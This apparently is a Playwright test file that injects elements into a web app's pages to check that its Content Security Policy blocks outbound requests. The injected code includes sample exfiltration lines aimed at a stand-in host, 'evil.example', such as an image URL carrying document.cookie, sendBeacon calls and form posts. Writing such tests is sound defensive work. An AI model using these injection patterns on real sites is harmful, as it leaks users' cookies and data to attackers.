import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { expect, test } from "../../support/test.ts";
import { wideWhere } from "../../support/wide.ts";

/** Somebody else's server: what reaches it has left the site. */
let elsewhere: Server;
let reached: string[] = [];

test.beforeAll(async () => {
  elsewhere = createServer((request, response) => {
    reached.push(`${request.method} ${request.url}`);
    response.setHeader("access-control-allow-origin", "*");
    response.end("hello");
  });
  await new Promise<void>((resolve) => elsewhere.listen(0, "127.0.0.1", resolve));
});
test.afterAll(async () => {
  elsewhere.closeAllConnections();
  await new Promise((resolve) => elsewhere.close(resolve));
});
test.beforeEach(() => {
  reached = [];
});

for (const [index, path] of [
  "/",
  "/properties",
  "/login",
  "/reset-password?token=x",
  "/user/dashboard",
  "/no-such-page",
  "/api/docs",
].entries()) {
  test(
    `what is injected into ${path} can send nothing elsewhere`,
    wideWhere(index % 2 === 1),
    async ({ page, context }) => {
      await page.goto(path);
      const target = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
      await page.evaluate(async (origin) => {
        const directives: string[] = [];
        Object.assign(window, { refusedDirectives: directives });
        document.addEventListener("securitypolicyviolation", (event) => directives.push(event.effectiveDirective));
        const add = <K extends keyof HTMLElementTagNameMap>(
          name: K,
          set: (element: HTMLElementTagNameMap[K]) => void,
        ) => {
          const element = document.createElement(name);
          set(element);
          document.body.append(element);
          return element;
        };
        for (const evil of [origin, "https://evil.example"]) {
          add("img", (image) => {
            image.src = `${evil}/image?${document.cookie}`;
          });
          add("iframe", (frame) => {
            frame.src = `${evil}/frame`;
          });
          add("audio", (audio) => {
            audio.src = `${evil}/sound`;
          });
          add("link", (link) => {
            link.rel = "stylesheet";
            link.href = `${evil}/style.css`;
          });
          await fetch(`${evil}/fetch`, { mode: "no-cors" }).catch(() => undefined);
          navigator.sendBeacon(`${evil}/beacon`, "data");
          const form = add("form", (element) => {
            element.method = "post";
            element.action = `${evil}/form`;
          });
          form.submit();
        }
      }, target);
      const refused = () =>
        page.evaluate(() => {
          const { refusedDirectives } = window as unknown as { refusedDirectives: string[] };
          return [...new Set(refusedDirectives.map((name) => name.replace(/^style-src.*/, "style-src")))];
        });
      await expect
        .poll(refused)
        .toEqual(
          expect.arrayContaining(["img-src", "frame-src", "media-src", "style-src", "connect-src", "form-action"]),
        );
      // A page without a policy sends after it: what was let through would have come before.
      const control = await context.newPage();
      await control.evaluate((address) => fetch(address, { mode: "no-cors" }), `${target}/control`);
      await expect.poll(() => reached).toContain("GET /control");
      expect(reached).toEqual(["GET /control"]);
    },
  );
}
